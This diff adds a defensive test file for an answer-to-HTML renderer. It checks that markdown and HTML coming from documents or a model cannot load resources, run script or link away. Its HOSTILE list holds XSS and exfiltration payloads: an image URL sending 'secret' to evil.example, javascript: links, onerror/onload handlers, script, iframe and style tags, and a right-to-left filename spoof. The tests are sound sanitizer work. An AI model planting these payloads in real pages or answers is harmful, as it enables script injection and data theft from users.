@@ -1,0 +1,71 @@
+"""Answers as HTML: nothing a document or a model writes can fetch, run or lead away."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from kb.types import Citation
+from web.render import to_html
+
+CITED = Citation(
+    1, "doc_a", "a", 'A "title" <b>', 2, 3, "", "quote", "/documents/doc_a?revision=2&start=0&end=5#passage"
+)
+
+HOSTILE = [
+    "![x](https://evil.example/?q=secret)",
+    "![x][1]\n\n[1]: https://evil.example/x.png",
+    "[click](https://evil.example)",
+    "[click](javascript:alert(1))",
+    "<https://evil.example>",
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "<a href='//evil.example'>x</a>",
+    "<style>@import url(//evil.example)</style>",
+    '<svg onload="alert(1)">',
+    "[1](https://evil.example)",
+    '| a |\n|---|\n| <iframe src="//evil.example"> |',
+    "```html\n<script>alert(1)</script>\n```",
+    "\x1b[31mred\x1b[0m \u202egnp.exe",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("quoted", [False, True])
+def test_hostile_text(text: str, quoted: bool) -> None:
+    check(to_html(text + " [1]", [CITED], quoted=quoted))
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.sampled_from([*HOSTILE, "[1]", "[9]", "\n", " ", "# ", "- ", "> ", "`", "**", "|", "&#106;avascript:", "\\", "<", ">"]), max_size=12))  # fmt: skip
+def test_any_mixture(parts: list[str]) -> None:
+    check(to_html("".join(parts), [CITED]))
+
+
+def check(html: str) -> None:
+    tags = {tag.lower() for tag in re.findall(r"<\s*/?\s*([a-zA-Z]+)", html)}
+    assert not tags & {"img", "script", "style", "svg", "iframe", "object", "link", "form", "base", "meta"}
+    for attributes in re.findall(r"<\w+\s([^>]*)>", html):
+        assert not re.search(r"\b(?:src|on\w+|style)\s*=", attributes)
+    for href in re.findall(r'href="([^"]*)"', html):
+        assert href.startswith("/documents/doc_a?")
+
+
+def test_markdown_and_citations() -> None:
+    html = to_html("**Yes** [1][2].\n\n- one\n- two [1]\n\n# Big", [CITED])
+    assert "<strong>Yes</strong>" in html and "<li>one</li>" in html and "<h3>Big</h3>" in html
+    assert html.count('data-n="1"') == 2 and "[2]" in html
+    assert 'title="A &quot;title&quot; &lt;b&gt;, page 3"' in html
+
+
+def test_quotes_are_no_markdown() -> None:
+    assert "<h" not in to_html("# not a heading [1]", [CITED], quoted=True)
+
+
+def test_a_curated_answer_leads_to_its_entry() -> None:
+    from dataclasses import replace
+
+    assert 'href="/faq#faq_x"' in to_html("Yes. [1]", [replace(CITED, document_id="faq_x", url="")])
